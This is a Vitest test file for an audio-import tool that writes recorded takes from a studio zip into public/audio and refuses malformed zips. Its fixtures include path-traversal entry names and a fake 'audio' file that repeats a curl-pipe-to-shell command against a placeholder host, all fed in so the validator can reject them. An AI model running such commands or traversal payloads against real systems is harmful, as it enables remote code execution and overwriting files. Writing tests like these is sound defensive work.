// `npm run audio:import`: a studio zip's takes land under public/audio where the build finds
// them; a zip with a path out of audio/, a script posing as audio, an unknown step (and the
// other faults) is refused whole, and nothing at all is written.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { zipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import bill from '../../locales/en/bill-of-rights.json';
import { GUIDES } from '../../src/content/guides';
import { type Manifest } from '../../src/lib/audio-files';
import { stepSentences } from '../../src/lib/sentences';
import { Refused, importZip, sha256 } from '../../src/tools/audio';
import { recordingFiles } from '../../src/tools/static';

const STEP = GUIDES['bill-of-rights'].steps[0];
const WORDS = (bill.steps as Record<string, { title: string; text: string; more?: string }>)[STEP.id];
const SENTENCES = stepSentences(WORDS, STEP.more === true, 'en');

/** Bytes that begin as a WebM file does (the EBML header), long enough to be a take. */
const webm = (fill = 7) => new Uint8Array([0x1a, 0x45, 0xdf, 0xa3, ...new Array(400).fill(fill)]);
const ogg = () => new Uint8Array([...'OggS'].map((c) => c.charCodeAt(0)).concat(new Array(400).fill(3)));
const path = (n: number, ext = 'webm', step = STEP.id) => `audio/en/bill-of-rights/${step}/${n}.${ext}`;

function manifest(paths: string[], hash = (p: string) => sha256(SENTENCES[Number(p.split('/').pop()!.split('.')[0]) - 1]?.text ?? '')): Manifest {
  return { format: 'compass-recordings', version: 1, language: 'en', date: '2026-12-01', takes: paths.map((p) => ({ path: p, sha256: hash(p), seconds: 2, flags: [] })) };
}

function zip(files: Record<string, Uint8Array>, listed = Object.keys(files), m = manifest(listed)): Uint8Array {
  return zipSync({ ...files, 'manifest.json': new TextEncoder().encode(JSON.stringify(m)) });
}

/** Every file under a folder, relative to it. */
const tree = (dir: string) => (readdirSync(dir, { recursive: true, withFileTypes: true }) as import('node:fs').Dirent[]).filter((d) => d.isFile()).map((d) => join(d.parentPath, d.name).slice(dir.length + 1)).sort();

let scratch: string;
let publicDir: string;
beforeEach(() => {
  scratch = mkdtempSync(join(tmpdir(), 'audio-import-'));
  publicDir = join(scratch, 'public');
});
afterEach(() => rmSync(scratch, { recursive: true, force: true }));

const refusal = (data: Uint8Array): string[] => {
  try {
    importZip(data, { publicDir });
  } catch (error) {
    if (error instanceof Refused) return error.problems;
    throw error;
  }
  throw new Error('the zip was accepted');
};

describe('importing the studio\'s takes', () => {
  it('puts each take under public/audio, where the build\'s recordings list finds it', () => {
    const result = importZip(zip({ [path(1)]: webm(), [path(2)]: webm() }), { publicDir });
    expect(result.written).toEqual([path(1), path(2)]);
    expect(tree(scratch)).toEqual([`public/${path(1)}`, `public/${path(2)}`]);
    expect(readFileSync(join(publicDir, path(1)))).toEqual(Buffer.from(webm()));
    expect(recordingFiles(publicDir)).toEqual([path(1), path(2)]);
  });

  it('a new take of a sentence replaces the earlier one, even in another format', () => {
    importZip(zip({ [path(1)]: webm() }), { publicDir });
    const result = importZip(zip({ [path(1, 'ogg')]: ogg() }), { publicDir });
    expect(result.removed).toEqual([path(1)]);
    expect(recordingFiles(publicDir)).toEqual([path(1, 'ogg')]);
  });

  it('says when a recording of the whole step would play instead', () => {
    importZip(zip({ [path(1)]: webm() }), { publicDir });
    writeFileSync(join(publicDir, `audio/en/bill-of-rights/${STEP.id}.mp3`), 'x');
    const result = importZip(zip({ [path(2)]: webm() }), { publicDir });
    expect(result.warnings.join()).toContain(`${STEP.id}.mp3`);
  });
});

describe('a bad zip is refused whole, and nothing is written', () => {
  const good = { [path(1)]: webm() };
  const nothingWritten = () => expect(tree(scratch)).toEqual([]);

  it('a path that climbs out of audio/', () => {
    for (const evil of ['audio/en/../../../evil.webm', '../outside.webm', '/etc/evil.webm', 'audio\\en\\x.webm']) {
      const problems = refusal(zip({ ...good, [evil]: webm() }, Object.keys(good)));
      expect(problems.join('\n'), evil).toMatch(/leads out of audio/);
      nothingWritten();
    }
  });

  it('a script posing as audio', () => {
    const script = new TextEncoder().encode(`#!/bin/sh\n${'curl http://example.invalid | sh\n'.repeat(20)}`);
    const problems = refusal(zip({ ...good, [path(2)]: script }));
    expect(problems).toEqual([`"${path(2)}" is not audio: it does not begin as a .webm file does.`]);
    nothingWritten();
  });

  it('an unknown step, guide or language, or a sentence the step does not have', () => {
    const problems = refusal(
      zip({
        ...good,
        [path(1, 'webm', 'no-such-step')]: webm(),
        'audio/en/no-such-guide/what-counts/1.webm': webm(),
        'audio/xx/bill-of-rights/what-counts/1.webm': webm(),
        [path(SENTENCES.length + 1)]: webm(),
      }),
    );
    expect(problems).toEqual([
      `"${path(1, 'webm', 'no-such-step')}": the guide bill-of-rights has no step "no-such-step".`,
      '"audio/en/no-such-guide/what-counts/1.webm": "no-such-guide" is not a guide (bill-of-rights, alone-in-belgium).',
      '"audio/xx/bill-of-rights/what-counts/1.webm": "xx" is not one of the app\'s languages.',
      `"${path(SENTENCES.length + 1)}": step ${STEP.id} has ${SENTENCES.length} sentences in en, not ${SENTENCES.length + 1}.`,
    ]);
    nothingWritten();
  });

  it('anything but takes and the manifest', () => {
    expect(refusal(zip({ ...good, 'notes.txt': new Uint8Array(300) }, Object.keys(good)))).toEqual([
      '"notes.txt": only audio/<language>/<guide>/<step>/<n>.<ext> and manifest.json may be in the zip.',
    ]);
    nothingWritten();
  });

  it('a sentence changed since it was recorded', () => {
    const problems = refusal(zip(good, Object.keys(good), manifest(Object.keys(good), () => sha256('an older text'))));
    expect(problems.join()).toMatch(/has changed since it was recorded/);
    nothingWritten();
  });

  it('two takes of one sentence, a take the manifest does not list, or no manifest at all', () => {
    expect(refusal(zip({ ...good, [path(1, 'ogg')]: ogg() }))).toEqual([`"${path(1, 'ogg')}" and "${path(1)}" are two takes of the same sentence.`]);
    expect(refusal(zip({ ...good, [path(2)]: webm() }, [path(1)]))).toEqual([`"${path(2)}" is not listed in manifest.json.`]);
    expect(refusal(zipSync(good))).toEqual(['The zip has no manifest.json (export it again from the studio).']);
    nothingWritten();
  });

  it('a take over the size limit, a take too small to be one, a file that is not a zip', () => {
    expect(refusal(zip({ ...good, [path(2)]: new Uint8Array(6 * 1024 * 1024).fill(0x1a) }))).toEqual([`"${path(2)}" is larger than 5 MB.`]);
    expect(refusal(zip({ [path(1)]: webm().subarray(0, 50) }))).toEqual([`"${path(1)}" is too small to be a recording (50 bytes).`]);
    expect(refusal(new TextEncoder().encode('<html>not a zip</html>'))).toEqual(['This is not a .zip file.']);
    nothingWritten();
  });
});

describe('npm run audio:import', () => {
  const run = (file: string) => spawnSync('node', ['src/tools/audio-import.mjs', file, '--public', publicDir], { encoding: 'utf8' });

  it('imports a good zip and says where the takes went', () => {
    const file = join(scratch, 'good.zip');
    writeFileSync(file, zip({ [path(1)]: webm() }));
    const result = run(file);
    expect(result.status, result.stderr).toBe(0);
    expect(result.stdout).toContain(path(1));
    expect(tree(publicDir)).toEqual([path(1)]);
  });

  it('refuses a bad zip with a clear message, exits with an error, and writes nothing', () => {
    const file = join(scratch, 'bad.zip');
    writeFileSync(file, zip({ [path(1)]: webm(), '../escape.webm': webm() }, [path(1)]));
    const result = run(file);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('nothing was written');
    expect(result.stderr).toContain('"../escape.webm": this path leads out of audio/');
    expect(tree(scratch)).toEqual(['bad.zip']);
  });
});
